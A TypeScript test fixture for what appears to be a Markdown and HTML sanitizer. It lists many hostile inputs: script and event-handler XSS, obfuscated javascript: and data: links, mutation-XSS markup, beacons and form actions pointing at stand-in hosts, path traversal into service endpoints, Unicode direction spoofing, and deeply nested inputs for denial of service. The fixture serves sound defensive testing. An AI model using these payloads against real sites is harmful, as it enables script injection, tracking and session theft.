/** A trick that a statement may try: its Markdown, and words that a reader must still see, if any. */
export interface HostileStatement {
  readonly name: string;
  readonly markdown: string;
  readonly shows?: string;
}

/** What became of foreign text in a document. */
export interface ShownStatement {
  elements: string[];
  /** "name=value" of every attribute. */
  attributes: string[];
  text: string;
  /** Whether a script ran or the page's own element cannot be found any more. */
  reached: boolean;
}

/** What `show-statement.ts` puts into a browser for its tests. */
export interface Walls {
  showStatement(kind: 'markdown' | 'html', text: string): Promise<ShownStatement>;
  showNaked(html: string): Promise<ShownStatement>;
}

const beacon = 'https://tracker.example/pixel.gif';

/** Each would run a script, load something foreign or reach into the page, if the walls let it. */
export const hostileStatements: readonly HostileStatement[] = [
  { name: 'a script', markdown: '<script>window.pwned = 1</script>', shows: '<script>' },
  { name: 'a handler', markdown: 'x <img src=x onerror="window.pwned=1">', shows: 'onerror' },
  {
    name: 'an svg',
    markdown: '<svg onload=window.pwned=1><a xlink:href="javascript:1">x</a></svg>',
  },
  { name: 'a frame', markdown: `<iframe src="${beacon}" srcdoc="<script>1</script>"></iframe>` },
  { name: 'a style sheet', markdown: `<style>@import "${beacon}";</style>` },
  { name: 'a form', markdown: `<form action="${beacon}"><input name=password></form>` },
  { name: 'a base', markdown: `<base href="https://evil.example/">` },
  { name: 'a refresh', markdown: `<meta http-equiv=refresh content="0;url=${beacon}">` },
  { name: 'a comment', markdown: '<!-- <img src=x onerror=alert(1)> -->' },
  {
    name: 'mathml',
    markdown: '<math><mtext></form><form><mglyph><style></math><img src onerror=1>',
  },
  { name: 'javascript:', markdown: '[go](javascript:window.pwned=1)', shows: 'go' },
  { name: 'capitals', markdown: '[go](JaVaScRiPt:window.pwned=1)' },
  { name: 'an entity for the colon', markdown: '[go](javascript&colon;window.pwned=1)' },
  { name: 'entities for letters', markdown: '[go](&#106;&#x61;vascript&#58;window.pwned=1)' },
  { name: 'a tab within', markdown: '[go](java&Tab;script:window.pwned=1)' },
  { name: 'a line break within', markdown: '[go](java&NewLine;script:window.pwned=1)' },
  { name: 'percent within', markdown: '[go](javascript%3Awindow.pwned=1)' },
  { name: 'control characters before', markdown: '[go](<\u0001javascript:window.pwned=1>)' },
  { name: 'spaces before', markdown: '[go](<  javascript:window.pwned=1>)' },
  { name: 'vbscript:', markdown: '[go](vbscript:msgbox(1))' },
  { name: 'a data page', markdown: '[go](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)' },
  { name: 'a data picture', markdown: '[go](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)' },
  { name: 'a permitted data picture', markdown: '[go](data:image/png;base64,AAAA)' },
  { name: 'blob:', markdown: '[go](blob:https://tickjudge.example/1)' },
  { name: 'file:', markdown: '[go](file:///etc/passwd)' },
  { name: 'a protocol of the system', markdown: '[go](ms-msdt:/id)' },
  { name: 'an autolink', markdown: '<javascript:window.pwned=1>', shows: 'javascript' },
  { name: 'an autolink of data', markdown: '<data:text/html,1>' },
  { name: 'a reference', markdown: '[go][x]\n\n[x]: javascript:window.pwned=1', shows: 'go' },
  { name: 'a link without protocol', markdown: '[go](//evil.example/x)' },
  {
    name: 'a link with backslashes',
    markdown: '[go](<\\\\evil.example/x>) [go](</\\evil.example>)',
  },
  { name: 'a host that poses', markdown: '[go](https://bank.example@evil.example/)' },
  { name: 'an attribute in a title', markdown: '[go](https://a.example "x\\" onmouseover=\\"1")' },
  { name: 'an attribute in an address', markdown: '[go](https://a.example/"onmouseover="1)' },
  { name: 'a picture that tracks', markdown: `![who reads](${beacon})`, shows: 'who reads' },
  { name: 'a picture by reference', markdown: `![who][x]\n\n[x]: ${beacon}`, shows: 'who' },
  { name: 'a picture in a link', markdown: `[![who](${beacon})](${beacon})`, shows: 'who' },
  { name: 'a picture of the package', markdown: '![plan](attachments/plan.png)', shows: 'plan' },
  { name: 'a file of the package', markdown: '[go](../attachments/plan.png "x\\" onclick=\\"1")' },
  { name: 'a way up from the files', markdown: '[go](attachments/../../../sessions/current)' },
  { name: 'an address of the service', markdown: '[go](/api/v1/accounts)' },
  { name: 'a picture from the service', markdown: '![x](/api/v1/sessions/current)' },
  { name: 'markup in a picture', markdown: '![<img src=x onerror=1>](a.png)', shows: 'onerror' },
  { name: 'a fence with markup as language', markdown: '```"><img/src=x/onerror=1>\ncode\n```' },
  { name: 'a fence with classes of the page', markdown: '```dialog button-primary\ncode\n```' },
  {
    name: 'a timeline of markup',
    markdown: '```timeline <img src=x onerror=1>\n0 ms <b>x</b>\n```',
  },
  { name: 'markup in code', markdown: '`<img src=x onerror=1>` and\n\n    <script>1</script>' },
  { name: 'names that shadow', markdown: '<a id=root name=location>x</a>\n\n# root {#root}\n' },
  { name: 'a heading as target', markdown: '## getElementById\n\n[go](#getElementById)' },
  { name: 'headings without end', markdown: '## x\n'.repeat(20_000) },
  { name: 'a heading that shadows', markdown: '# \n\n## cookie\n\n### root\n\n## <b id=x>' },
  { name: 'a style in a table', markdown: '| a |\n|:-:|\n| <td style="background:url(x)"> |' },
  {
    name: 'directions turned in a link',
    markdown: '[https://safe.example/\u202Egro.elpmaxe\u202C](https://evil.example/)',
    shows: '‹U+202E›',
  },
  { name: 'directions turned by an entity', markdown: 'pay &#x202e;001 euro', shows: '‹U+202E›' },
  {
    name: 'directions turned in code',
    markdown: '```ts\nif (a) { // \u2066}\n```',
    shows: '‹U+2066›',
  },
  { name: 'null characters', markdown: '<scr\0ipt>1</scr\0ipt>' },
  { name: 'templates', markdown: '{{constructor.constructor("window.pwned=1")()}} ${1}' },
  { name: 'quotes in quotes', markdown: `${'> '.repeat(20_000)}deep` },
  {
    name: 'lists in lists',
    markdown: Array.from({ length: 500 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
  },
  { name: 'brackets without end', markdown: '['.repeat(50_000) },
  { name: 'links without end', markdown: '[a]('.repeat(20_000) },
  { name: 'emphasis without end', markdown: '*a_ '.repeat(20_000) },
  {
    name: 'backticks of every length',
    markdown: Array.from({ length: 600 }, (_, count) => `${'`'.repeat(count)} `).join(''),
  },
];

/** Markup that Markdown would never make: what the second wall must hold if the first one fell. */
export const hostileMarkup: readonly { name: string; html: string }[] = [
  { name: 'a script', html: '<script>window.pwned=1</script>' },
  { name: 'a handler', html: '<p onclick="window.pwned=1">x</p>' },
  { name: 'a picture', html: `<img src="${beacon}" onerror="window.pwned=1">` },
  { name: 'a picture set', html: `<picture><source srcset="${beacon}"><img></picture>` },
  { name: 'a frame', html: `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>` },
  { name: 'a link to a script', html: '<a href="javascript:window.pwned=1">x</a>' },
  { name: 'a link with a tab', html: '<a href="java\tscript:window.pwned=1">x</a>' },
  { name: 'a relative link', html: '<a href="/api/v1/x">x</a><a href="//evil.example">x</a>' },
  {
    name: 'a link into the page',
    html: '<a href="https://a.example" target="_self" rel="opener">x</a>',
  },
  {
    name: 'links into the service',
    html: [
      '/api/v1/problems/x/attachments/../../y',
      '/api/v1/problems/x/attachments/..',
      '/api/docs',
    ]
      .concat('/api/v1/problems/x/attachments/a.txt/..', '/api/v1/problems/..%2f/attachments/a.txt')
      .map((href) => `<a href="${href}">x</a>`)
      .join(''),
  },
  {
    name: 'a file that is shown in place of the page',
    html: '<a href="/api/v1/problems/x/attachments/a.html" target="_top" download>x</a><p download=x>x</p>',
  },
  { name: 'a ping', html: `<a href="https://a.example" ping="${beacon}">x</a>` },
  { name: 'a style', html: `<p style="background:url(${beacon})">x</p><style>@import "x"</style>` },
  {
    name: 'names that shadow',
    html: '<a id="root" name="cookie">x</a><form id="location"></form>',
  },
  { name: 'a name with the prefix', html: '<p id="part-x">x</p><h2 id="root">x</h2>' },
  { name: 'classes of the page', html: '<p class="dialog notice-error">x</p>' },
  {
    name: 'a place in the order of keys',
    html: '<p tabindex="99">x</p><pre tabindex="99">x</pre>',
  },
  { name: 'svg', html: '<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s></svg>' },
  { name: 'an svg use', html: `<svg><use href="${beacon}#x"/></svg>` },
  {
    name: 'a parse that changes its mind',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
  },
  {
    name: 'another one',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>',
  },
  { name: 'noscript', html: '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">' },
  { name: 'a template', html: '<template><img src=x onerror=window.pwned=1></template>' },
  { name: 'an own element', html: '<x-evil is="x">x</x-evil><p is="x-evil">x</p>' },
  { name: 'a media', html: `<video poster="${beacon}" autoplay><track src="${beacon}"></video>` },
  { name: 'a button', html: '<button formaction="javascript:window.pwned=1">x</button>' },
  { name: 'depth', html: `${'<blockquote>'.repeat(3000)}x` },
];
